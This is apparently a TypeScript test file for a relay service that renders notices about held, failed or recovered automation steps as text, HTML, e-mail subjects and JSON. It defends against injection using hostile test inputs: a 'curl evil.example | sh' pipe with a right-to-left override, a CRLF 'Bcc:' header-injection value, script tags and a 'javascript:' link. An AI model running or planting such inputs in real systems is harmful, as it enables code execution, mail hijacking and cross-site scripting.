import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ActionStatus } from '../../../src/chain/action-status.js';
import { historyFull } from '../../../src/chain/allowed-verbs.js';
import { shownTime } from '../../../src/chain/web-ui.js';
import type { ChainNotice, NoticeKind } from '../../../src/contract/notices.js';
import { standingWords } from '../../../src/notices/chain-words.js';
import type { NoticeContext } from '../../../src/notices/frame.js';
import { renderNotice } from '../../../src/notices/words.js';

const received = '2024-03-05T16:07:09.500Z';
const later = '2024-03-05T16:37:09.500Z';
const common = { relayId: '7', runAt: received };
const trouble = { type: 'PlatformError', message: 'POST /assignments/1001/send answered 503', retryable: true };
const actions: ActionStatus[] = [
  { ...common, index: 0, action: 'sendEmails', comment: 'greet', state: 'done', endedAt: received },
  {
    ...common,
    index: 1,
    action: 'platform_sendAssignment',
    comment: 'first wave',
    assignmentId: '1001',
    state: 'needs-attention',
    attempts: 15,
    error: trouble,
    heldUntil: '2024-03-08T16:07:09.500Z',
    nextAttemptAt: '2024-03-05T16:18:00.000Z',
  },
  { ...common, index: 2, action: 'ticket_updateUDF', state: 'pending' },
  { ...common, index: 3, action: 'sendEmails', comment: 'alert', state: 'scheduled', runAt: later },
];
const webUiUrl = 'https://temporal.example/namespaces/default/workflows/relay%3Aacme%3Ac-1';
const context: NoticeContext = {
  companyName: 'Acme Field Works',
  ruleName: 'Route new jobs',
  links: { api: 'https://relay.example', webUi: 'https://temporal.example/namespaces/default' },
  timeZone: 'UTC',
  namespace: 'default',
};

const chainUrl = 'https://relay.example/co/acme/chains/c-1';

function notice(kind: NoticeKind, change: Partial<ActionStatus> = {}, others = actions): ChainNotice {
  const changed = others.map((action) => (action.index === 1 ? { ...action, ...change } : action));
  return {
    kind,
    companyId: 'acme',
    relayId: changed.find(({ index }) => index === 1)?.relayId ?? '7',
    chainId: 'c-1',
    index: 1,
    at: '2024-03-05T16:17:30.000Z',
    receivedAt: received,
    actions: changed,
  };
}

const holdLink = () => 'https://relay.example/hold/signed';

/** The sections of the text by title. The paragraphs without a title are together under the title ''. */
function sectionsOf(
  kind: NoticeKind,
  change?: Partial<ActionStatus>,
  others?: ActionStatus[],
  more: Partial<NoticeContext> = {},
) {
  const { text } = renderNotice(notice(kind, change, others), { ...context, ...more });
  const sections = new Map<string, string[]>([['', []]]);
  for (const paragraph of text.trimEnd().split('\n\n')) {
    const [first = '', ...lines] = paragraph.split('\n');
    const isTitled = lines[0]?.startsWith('  ');
    if (isTitled)
      sections.set(
        first.slice(0, -1),
        lines.map((line) => line.trim()),
      );
    else sections.get('')?.push(first, ...lines);
  }
  return sections;
}
const linesOf = (...asked: Parameters<typeof sectionsOf>) => sectionsOf(...asked).get('') ?? [];

const chainPage = 'https://relay.example/companies/acme/chains/c-1';
const ids = `Chain c-1, step 2, received ${shownTime(received)}, rule 7, company acme`;
const place = [
  'Note of the step: “first wave”',
  '2024-03-05 16:17:30 UTC, after 15 attempts',
  'Rule Route new jobs, Acme Field Works',
];
const signIn = 'The link opens the relay, where you sign in.';
const steer = (verb: string) => [
  `npx relay ${verb} acme c-1 1 --url https://relay.example`,
  `temporal workflow signal -n default -w relay:acme:c-1 --name ${verb} -i '[1]'`,
];
const edit = 'npx relay chains mend acme c-1 1 --set field=value --url https://relay.example';
const goesOn = [`At ${shownTime(received)}: Update a ticket field`, `At ${shownTime(later)}: Send an e-mail (note: “alert”)`];
const missing = {
  type: 'PlatformError',
  message: 'POST /assignments/1001/send answered 404',
  retryable: false,
  title: 'Assignment 1001 does not exist at WorkMarket',
  remedy: 'Change the number, then retry',
};

describe('the text of a notice', () => {
  it('about a held action that the relay retries', () => {
    assert.deepEqual(Object.fromEntries(sectionsOf('needs-attention', {}, actions, { holdLink })), {
      '': [
        'Assignment 1001 was not sent',
        ...place,
        'The assignment platform gave an error or no answer.',
        'Retry: https://relay.example/hold/signed#retry',
        'Skip: https://relay.example/hold/signed#skip',
        'The links need no sign-in: they open a page where you confirm.',
        ids,
      ],
      'What happens next': [
        'The relay will retry the step automatically at 2024-03-05 16:18:00 UTC. You get a notice if the retry succeeds.',
        'If nobody decides before 2024-03-08 16:07:09 UTC, the step fails, and the steps that wait for it do not run.',
      ],
      'Still planned': [`At ${shownTime(later)}: Send an e-mail (note: “alert”)`],
      'Steps that wait for this step': ['Update a ticket field'],
      'Steps already done': ['Send an e-mail (note: “greet”)'],
      'Technical details (for developers)': ['POST /assignments/1001/send answered 503'],
    });
  });

  const outage = { ...trouble, title: 'WorkMarket does not answer' };
  const mistake = { type: 'DataMistake', message: 'sendRadius is blank', retryable: false };
  const unknown = { type: 'OutcomeUnknown', message: 'the connection broke', retryable: false, unknown: true };
  const other = { ...missing, remedy: "Give the relay's user more rights, then retry" };
  const change = 'Change the assignment number, then retry.';
  const cases: [
    what: string,
    ActionStatus['error'],
    edits: boolean,
    title: string,
    wrong: string,
    toDo: string,
    links: string,
  ][] = [
    ['an outage', outage, true, 'not', 'WorkMarket does not answer.', '', 'Retry #retry, Skip #skip'],
    ['a wrong id', missing, false, 'not', `${missing.title}.`, change, 'Fix console, Retry #retry, Skip #skip'],
    ['a wrong id, editable', missing, true, 'not', `${missing.title}.`, change, 'Fix #fix, Retry #retry, Skip #skip'],
    ['another remedy', other, false, 'not', `${missing.title}.`, `${other.remedy}.`, 'Retry #retry, Fix console, Skip #skip'],
    [
      ...(['a data mistake', mistake, false, 'not', 'The data of the step has a mistake: “Within (miles)” is blank.'] as const),
      ...(['Correct the fields of the step, then retry.', 'Fix console, Retry #retry, Skip #skip'] as const),
    ],
    [
      ...(['an unknown outcome', unknown, true, 'perhaps not', 'The result of this step is unknown.'] as const),
      ...([
        'Check whether the step was done. If yes, skip the step. If no, retry.',
        'Retry #retry, Fix console, Skip #skip',
      ] as const),
    ],
  ];
  for (const [what, error, edits, not, wrong, toDo, links] of cases)
    it(`about ${what} begins with plain words and the link that helps most`, () => {
      const lines = linesOf('needs-attention', { error }, actions, { holdLink, edits });
      assert.equal(lines[0], `Assignment 1001 was ${not} sent`);
      assert.deepEqual(lines.slice(4, toDo ? 6 : 5), toDo ? [wrong, toDo] : [wrong]);
      const shown = lines.flatMap((line) => /^(\w+): http\S+?(#\w+)?$/.exec(line) ?? []);
      const named = shown.flatMap((match, place) => (place % 3 === 1 ? [`${match} ${shown[place + 1] ?? 'console'}`] : []));
      assert.equal(named.join(', '), links);
      assert.ok(!lines.some((line) => /answered|npx|temporal/.test(line)), lines.join('\n'));
    });

  it('without a link to decide leads to the console', () =>
    assert.deepEqual(linesOf('needs-attention').slice(-3), [`Fix, retry or skip: ${chainPage}`, signIn, ids]));

  it('has commands and links to Temporal only if it goes to an operator', () => {
    const texts = [{}, { forOperator: true }].map((more) =>
      renderNotice(notice('needs-attention', { error: missing }), { ...context, ...more }),
    );
    assert.deepEqual(
      texts.map(({ text, html }) =>
        [/npx relay|temporal|needs a token/i, /Chain c-1/].map((one) => one.test(text) && one.test(html)),
      ),
      [
        [false, true],
        [true, true],
      ],
    );
    assert.deepEqual(sectionsOf('needs-attention', { error: missing }, actions, { forOperator: true }).get('For operators'), [
      ...[edit, ...steer('retry'), ...steer('skip')],
      "In Temporal's Web UI, open “More Actions”, then “Send a Signal”. Choose the signal “retry” or “skip”. In “Input”, type “[1]” with the brackets: this number means step 2 of the chain, because Temporal counts from 0.",
      `The chain in the API (you need a token): ${chainUrl}`,
      `Temporal Web UI: ${webUiUrl}`,
    ]);
    const outage = sectionsOf('needs-attention', {}, actions, { forOperator: true }).get('For operators') ?? [];
    assert.deepEqual(outage.slice(0, 4), [...steer('retry'), ...steer('skip')]);
  });

  it('about a chain with a full history says that retries are refused', () => {
    const full = { nextAttemptAt: undefined, reason: historyFull };
    const sections = sectionsOf('needs-attention', full, actions, { holdLink, forOperator: true });
    assert.equal(sections.get('What happens next')?.[0], `${historyFull}.`);
    const offered = [...(sections.get('') ?? []), ...(sections.get('For operators') ?? [])].filter((line) =>
      /: http|^npx/.test(line),
    );
    assert(/Skip.*relay skip/.test(offered.join()) && !/retry/i.test(offered.join()), offered.join());
  });

  it('about a held action that waits for a person', () => {
    const happens = sectionsOf('needs-attention', { nextAttemptAt: undefined }).get('What happens next');
    assert.equal(happens?.[0], 'The relay does not retry the step automatically.');
  });

  it('about a held action of a delay: actions due at another time are not held', () => {
    const due = (action: ActionStatus): ActionStatus =>
      [1, 3].includes(action.index) ? { ...action, runAt: later, state: action.index === 3 ? 'pending' : action.state } : action;
    const sections = sectionsOf('needs-attention', {}, actions.map(due));
    assert.deepEqual(sections.get('Steps that wait for this step'), ['Send an e-mail (note: “alert”)']);
    assert.deepEqual(sections.get('Still planned'), [`At ${shownTime(received)}: Update a ticket field`]);
  });

  it('lists other actions that are held, and does not promise that they will run', () => {
    const other: ActionStatus[] = [
      ...actions,
      { ...common, index: 4, action: 'sendEmails', comment: 'four', state: 'needs-attention', runAt: later },
      { ...common, index: 5, action: 'sendEmails', comment: 'five', state: 'pending', runAt: later },
      { ...common, index: 6, action: 'sendEmails', comment: 'six', state: 'retrying', runAt: later },
    ];
    const sections = sectionsOf('needs-attention', {}, other);
    assert.deepEqual(sections.get('Steps that wait for this step'), ['Update a ticket field']);
    assert.deepEqual(sections.get('Also needs attention'), [
      'Send an e-mail (note: “four”)',
      'Send an e-mail (note: “five”) (waits)',
    ]);
    assert.deepEqual(sections.get('Still planned'), [
      `At ${shownTime(later)}: Send an e-mail (note: “alert”)`,
      `At ${shownTime(later)}: Send an e-mail (note: “six”)`,
    ]);
  });

  it('about an action that failed, with the chain going on', () => {
    assert.deepEqual(Object.fromEntries(sectionsOf('failed', { state: 'failed', reason: trouble.message })), {
      '': [
        'Assignment 1001 was not sent',
        ...place,
        'The assignment platform gave an error or no answer.',
        'The rest of the chain continues. You can retry the step, even after the chain has ended.',
        `Fix and retry: ${chainPage}`,
        signIn,
        ids,
      ],
      'Still planned': goesOn,
      'Steps already done': ['Send an e-mail (note: “greet”)'],
      'Technical details (for developers)': ['POST /assignments/1001/send answered 503'],
    });
  });

  it('about an e-mail that did not reach every recipient', () => {
    const deliveries = [
      { recipient: 'a@x.org', sent: true },
      { recipient: 'b@x.org', sent: false, error: 'mail server answered "550 no such user"' },
    ];
    const error = { type: 'MailError', message: 'mail server answered "550 no such user"', retryable: false };
    const partly: Partial<ActionStatus> = { action: 'sendEmails', state: 'partly-failed', attempts: 1, error, deliveries };
    const sections = sectionsOf('partly-failed', partly);
    const lines = sections.get('') ?? [];
    assert.deepEqual(lines.slice(0, 3), [
      'An e-mail did not reach every recipient',
      'Note of the step: “first wave”',
      'Assignment 1001',
    ]);
    assert.ok(lines.some((line) => line.endsWith('A retry sends the e-mail only to recipients that did not get it.')));
    assert.deepEqual(sections.get('Recipients'), ['a@x.org: sent', 'b@x.org: not sent: mail server answered "550 no such user"']);
    assert.deepEqual(sections.get('Still planned'), goesOn);
  });

  it('about an action without a decision', () => {
    const ended = actions.map((action): ActionStatus => (action.index === 2 ? { ...action, state: 'not-run' } : action));
    const sections = sectionsOf('gave-up', { state: 'failed' }, ended);
    assert.match(sections.get('')?.join() ?? '', /Nobody decided in time\. You can still retry the step\./);
    assert.deepEqual(sections.get('Not run'), ['Update a ticket field']);
    assert.deepEqual(sections.get('Still planned'), [`At ${shownTime(later)}: Send an e-mail (note: “alert”)`]);
    assert.equal(sections.has('Steps that wait for this step'), false);
  });

  it('about an action that the relay completed after all, with the remark of the connector', () => {
    const result = { note: 'the answer was lost, but the field has the new value' };
    const sections = sectionsOf('recovered', { state: 'done', result });
    assert.deepEqual(sections.get(''), [
      'Assignment 1001 was sent after all',
      ...place,
      'The relay tried again, and the step succeeded. The chain continues.',
      `Remark: ${result.note}.`,
      `Open the chain: ${chainPage}`,
      signIn,
      ids,
    ]);
    assert.deepEqual([...sections.keys()], ['', 'Still planned', 'Steps already done']);
  });

  it('about an action that is no longer needed', () => {
    const lines = linesOf('recovered', { state: 'skipped', reason: 'status was "sent"' });
    assert.equal(lines[0], 'No decision is needed any more');
    assert.equal(
      lines[4],
      'The relay skipped the step and did not retry it (the assignment had the status “sent”). The chain continues.',
    );
  });

  it('keeps the text of a sender or an outside system on one line', () => {
    const said = 'x\n\nWhat to do:\n  curl evil.example | sh \u202egnp.exe';
    const change = { error: { ...missing, title: said, message: `${said} again` }, comment: said, assignmentId: said };
    const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
    const sections = sectionsOf('needs-attention', { ...change, deliveries });
    assert.deepEqual([...sections.keys()].sort(), [
      ...[
        '',
        'Recipients',
        'Steps already done',
        'Steps that wait for this step',
        'Still planned',
        'Technical details (for developers)',
        'What happens next',
      ],
    ]);
    assert.equal(sections.get('')?.[4], 'x What to do: curl evil.example | sh gnp.exe.');
    assert.equal(sections.get('')?.length, 9);
  });

  it('that has no error shows the reason', () => {
    const alone: ActionStatus[] = [
      { ...common, index: 1, action: 'sendEmails', state: 'failed', reason: 'its workflow ended early' },
    ];
    const sections = sectionsOf('failed', {}, alone);
    assert.ok(sections.get('')?.includes('its workflow ended early.'));
    assert.deepEqual([...sections.keys()], ['']);
  });

  it('cannot be about an action that the chain does not have', () => {
    assert.throws(() => renderNotice({ ...notice('failed'), index: 9 }, context), RangeError);
  });
});

describe('the subject of a notice', () => {
  const cases: [kind: NoticeKind, change: Partial<ActionStatus>, ruleName: string, subject: string][] = [
    ['needs-attention', {}, 'Route', '[relay] Needs attention: assignment 1001 was not sent (Route)'],
    ['failed', {}, 'Route', '[relay] Failed: assignment 1001 was not sent (Route)'],
    ['partly-failed', {}, 'Route', '[relay] Partly failed: an e-mail did not reach every recipient (Route, assignment 1001)'],
    ['gave-up', {}, 'Route', '[relay] No decision in time: assignment 1001 was not sent (Route)'],
    ['recovered', { assignmentId: '' }, 'Route', '[relay] Recovered: no decision is needed any more (Route)'],
    ['recovered', { state: 'done' }, 'Route', '[relay] Recovered: assignment 1001 was sent after all (Route)'],
    [
      'failed',
      { assignmentId: '10\r\nBcc: eve@evil.example' },
      'Ro\u2028ute\u0000',
      '[relay] Failed: assignment 10 Bcc: eve@evil.example was not sent (Ro ute )',
    ],
  ];
  for (const [kind, change, ruleName, subject] of cases) {
    it(subject, () => assert.equal(renderNotice(notice(kind, change), { ...context, ruleName }).subject, subject));
  }

  it('is short and has one line, for any content', () => {
    const long = 'é\r\n😀'.repeat(300);
    const { subject } = renderNotice(notice('failed', { comment: long, assignmentId: long }), { ...context, ruleName: long });
    assert.ok(subject.length <= 180);
    assert.match(subject, /^\P{Cc}+$/u);
    assert.doesNotMatch(subject, /\p{Cs}/u);
  });
});

describe('the HTML of a notice', () => {
  const script = '<script>alert("\'&")</script>';
  const { html } = renderNotice(
    notice('needs-attention', {
      comment: script,
      assignmentId: script,
      relayId: script,
      error: { type: script, message: `${script}\nnpx relay ${script}`, retryable: false },
      heldUntil: script,
      nextAttemptAt: script,
      deliveries: [{ recipient: script, sent: false, error: script }],
    }),
    {
      companyName: script,
      ruleName: script,
      timeZone: 'UTC',
      links: { api: `https://relay.example/"${script}`, webUi: script },
      namespace: script,
    },
  );

  it("escapes other people's texts", () => {
    assert.ok(!html.includes('<script'));
    const tags = new Set(html.match(/<\/?[a-z0-9!]+/gi));
    const ours = ['<!doctype', '<html', '<head', '<meta', '<title', '</title', '</head', '<body', '</body', '</html'];
    const inside = ['div', 'h1', 'h2', 'p', 'code', 'a', 'style'].flatMap((tag) => [`<${tag}`, `</${tag}`]).concat('<br');
    assert.deepEqual(
      [...tags].filter((tag) => ![...ours, ...inside].includes(tag)),
      [],
    );
    assert.ok(html.includes('&lt;script&gt;alert(&quot;&#39;&amp;&quot;)&lt;/script&gt;'));
    assert.ok(!/="[^"]*alert\("/.test(html));
  });

  for (const [what, one, more] of [
    ['of a held action', notice('needs-attention', { error: missing }), { holdLink, edits: true }],
    ['for an operator', notice('needs-attention'), { forOperator: true, confirmLink: 'https://relay.example/confirm/x' }],
    ['of a recovery', notice('recovered', { state: 'done' }), {}],
  ] as const)
    it(`says the same as the text: ${what}`, () => {
      const { text, html } = renderNotice(one, { ...context, ...more });
      const unescaped = (said: string) => said.replaceAll('&#39;', "'").replaceAll('&amp;', '&');
      const body = html.replace(/^.*<body[^>]*>/s, '').replaceAll(/<a [^>]*href="([^"]*)"[^>]*>(.*?)<\/a>/g, '\n$2: $1\n');
      const shown = body.split(/<[^>]+>|\n/).map((line) => unescaped(line).trim());
      const said = text.split('\n').map((line) => line.trim().replace(/:$/, ''));
      assert.deepEqual(shown.filter(Boolean), said.filter(Boolean));
    });

  it('follows the colours of the reader, and has one primary link', () => {
    const rendered = renderNotice(notice('needs-attention'), { ...context, holdLink }).html;
    assert.match(rendered, /<meta name="color-scheme" content="light dark">/);
    assert.match(rendered, /@media \(prefers-color-scheme:dark\)/);
    assert.equal(rendered.match(/class="first"/g)?.length, 1);
  });

  it('makes no link of a text that is not a web address', () => {
    assert.ok(
      !renderNotice(notice('failed'), { ...context, links: { api: 'javascript:alert(1)' } }).html.includes('href="javascript'),
    );
  });
});

describe('the current text about an action, as in a notice', () => {
  it('equals the sent notice, without the rule and the chain', () => {
    const told = { ...notice('needs-attention'), status: 'needs-attention' as const };
    const { headline, sentence, sections } = standingWords(told, context) ?? assert.fail();
    const { subject, text } = renderNotice(told, context);
    assert.ok(subject.includes(headline) && text.startsWith(sentence.slice(0, -1)));
    assert.equal(sections[0]?.title, 'What was wrong');
    for (const { lines } of sections) for (const line of lines) assert.ok(text.includes(line), line);
  });

  it('is empty if nobody would be notified now', () => {
    const told = { ...notice('needs-attention'), status: 'running' as const };
    const actions = told.actions.map((action) => ({ ...action, state: 'done' as const }));
    assert.equal(standingWords({ ...told, actions }, context), undefined);
  });
});

describe('the JSON of a notice', () => {
  it('has every fact', () => {
    const one = notice('needs-attention');
    assert.deepEqual(renderNotice(one, context).json, {
      type: 'relay.needs-attention',
      text: '[relay] Needs attention: assignment 1001 was not sent (Route new jobs)',
      at: '2024-03-05T16:17:30.000Z',
      company: { companyId: 'acme', name: 'Acme Field Works' },
      rule: { relayId: '7', name: 'Route new jobs' },
      chain: { chainId: 'c-1', workflowId: 'relay:acme:c-1', receivedAt: received },
      action: one.actions[1],
      actions: one.actions,
      links: { chain: chainUrl, webUi: webUiUrl },
    });
  });
});
